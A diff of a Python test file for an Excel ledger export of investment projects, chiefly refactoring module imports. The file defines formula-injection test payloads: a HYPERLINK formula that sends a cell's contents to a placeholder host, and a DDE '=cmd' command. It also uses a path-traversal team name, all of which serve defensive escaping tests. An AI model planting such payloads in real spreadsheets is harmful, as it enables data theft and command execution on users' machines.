@@ -10,14 +10,15 @@ from tests.factories import make_project, make_task_force, make_user
 from tracker import clock
 from tracker.domain import pipeline
 from tracker.models import Project
-from tracker.services import ledger, ledger_export
+from tracker.services.ledger import listing, export
+from tracker.services import xlsx
 
 HYPERLINK = '=HYPERLINK("http://x?y="&A1,"点击")'
 DDE = "=cmd|' /C calc'!A0"
 
 
 def _sheet(filters=None):
-    data = ledger_export.export_xlsx(ledger.filtered(filters or {"sort": "name", "dir": "asc"}))
+    data = export.export_xlsx(listing.filtered(filters or {"sort": "name", "dir": "asc"}))
     return load_workbook(io.BytesIO(data)).active
 
 
@@ -40,12 +41,12 @@ def _col(sheet, title):
     ("普通文字", "普通文字"), ("a=b", "a=b"), ("", ""),
 ])
 def test_safe_text(value, shown):
-    assert ledger_export.safe_text(value) == shown
+    assert xlsx.safe_text(value) == shown
 
 
 def test_numbers_dates_and_empty_cells_are_unchanged():
     day = datetime.date(2026, 3, 1)
-    assert [ledger_export.safe_value(v) for v in (1.5, -3, day, None, True)] == \
+    assert [xlsx.safe_value(v) for v in (1.5, -3, day, None, True)] == \
         [1.5, -3, day, None, True]
 
 
@@ -119,8 +120,8 @@ NOW = datetime.datetime(2026, 11, 28, 1, 30, tzinfo=datetime.timezone.utc)  # 09
 
 
 def _ledger_world():
-    from tracker.services import corrections
-    from tracker.services import projects as ledger_service
+    from tracker.services.ledger import corrections
+    from tracker.services.ledger import projects as ledger_service
     chem = make_task_force("JXHG", "精细化工专班")
     other = make_task_force("ZB", "装备制造专班")
     boss = make_user("boss", "bureau", display_name="张处长")
@@ -144,7 +145,7 @@ def _file_sheet(exported):
 
 def test_title_header_numbering_owner_and_funds(db):
     world = _ledger_world()
-    exported = ledger_export.export_ledger(
+    exported = export.export_ledger(
         {"tf": world["chem"].id, "sort": "name", "dir": "asc"}, now=NOW)
     sheet = _file_sheet(exported)
     title = sheet["A1"].value
@@ -152,7 +153,7 @@ def test_title_header_numbering_owner_and_funds(db):
     assert "导出时间：2026-11-28 09:30（北京时间）" in title
     assert "A1" in {str(r).split(":")[0] for r in sheet.merged_cells.ranges}
     header = [c.value for c in sheet[2]]
-    assert header[:2] == ["序号", "项目名称"] and len(header) == len(ledger_export.HEADER)
+    assert header[:2] == ["序号", "项目名称"] and len(header) == len(export.HEADER)
     for title in ("责任人", "到位资金合计（万元）", "最近进展日期", "预计签约日期", "存在问题"):
         assert title in header
     rows = list(sheet.iter_rows(min_row=3, values_only=True))
@@ -171,8 +172,8 @@ def test_title_header_numbering_owner_and_funds(db):
 
 def test_auto_filter_frozen_header_and_cjk_widths(db):
     world = _ledger_world()
-    sheet = _file_sheet(ledger_export.export_ledger({"sort": "name"}, now=NOW))
-    last = sheet.cell(row=2, column=len(ledger_export.HEADER)).column_letter
+    sheet = _file_sheet(export.export_ledger({"sort": "name"}, now=NOW))
+    last = sheet.cell(row=2, column=len(export.HEADER)).column_letter
     assert sheet.auto_filter.ref == f"A2:{last}5"           # header + 3 projects
     assert sheet.freeze_panes == "C3"
     header = [c.value for c in sheet[2]]
@@ -188,10 +189,10 @@ def test_auto_filter_frozen_header_and_cjk_widths(db):
 
 def test_file_names(db):
     world = _ledger_world()
-    one = ledger_export.export_ledger({"tf": world["chem"].id}, now=NOW)
+    one = export.export_ledger({"tf": world["chem"].id}, now=NOW)
     assert (one.filename, one.ascii_filename) == \
         ("招商项目台账_精细化工_20261128.xlsx", "project-ledger_JXHG_20261128.xlsx")
-    everything = ledger_export.export_ledger({}, now=NOW)
+    everything = export.export_ledger({}, now=NOW)
     assert everything.filename == "招商项目台账_全部_20261128.xlsx"
     assert "filename*=UTF-8''%E6%8B%9B" in everything.content_disposition()
     assert 'filename="project-ledger_all_20261128.xlsx"' in everything.content_disposition()
@@ -199,7 +200,7 @@ def test_file_names(db):
 
 def test_a_team_name_cannot_break_the_file_name(db):
     team = make_task_force("A/B", '../坏"名*专班')
-    name = ledger_export.export_ledger({"tf": team.id}, now=NOW)
+    name = export.export_ledger({"tf": team.id}, now=NOW)
     assert name.filename == "招商项目台账_坏_名_20261128.xlsx"
     assert name.ascii_filename == "project-ledger_A_B_20261128.xlsx"
 
@@ -207,11 +208,11 @@ def test_a_team_name_cannot_break_the_file_name(db):
 def test_cli_filters(db):
     from tracker.domain.errors import ValidationError
     team = make_task_force("JXHG", "精细化工专班")
-    assert ledger_export.cli_filters("JXHG", "签约", "2026") == \
+    assert export.cli_filters("JXHG", "签约", "2026") == \
         {"sort": "name", "dir": "asc", "tf": team.id, "stage": "signed", "year": 2026}
-    assert ledger_export.cli_filters(stage="dropped")["stage"] == "dropped"
+    assert export.cli_filters(stage="dropped")["stage"] == "dropped"
     for kwargs, field in (({"task_force": "NOPE"}, "task_force"), ({"stage": "zzz"}, "stage"),
                           ({"year": "26"}, "year"), ({"year": "abc"}, "year")):
         with pytest.raises(ValidationError) as caught:
-            ledger_export.cli_filters(**kwargs)
+            export.cli_filters(**kwargs)
         assert field in caught.value.errors
